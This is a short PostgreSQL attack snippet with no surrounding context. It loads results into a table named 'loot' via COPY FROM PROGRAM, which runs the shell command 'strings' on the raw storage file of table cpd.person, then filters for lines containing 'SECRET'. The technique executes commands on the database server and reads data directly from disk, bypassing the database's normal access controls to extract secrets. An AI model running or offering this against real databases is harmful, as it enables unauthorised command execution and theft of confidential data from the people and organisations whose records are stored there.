CREATE TEMPORARY TABLE loot (line text);
SELECT format('COPY loot FROM PROGRAM %L', 'strings ' || pg_relation_filepath('cpd.person')) \gexec
SELECT line FROM loot WHERE line LIKE '%SECRET%';
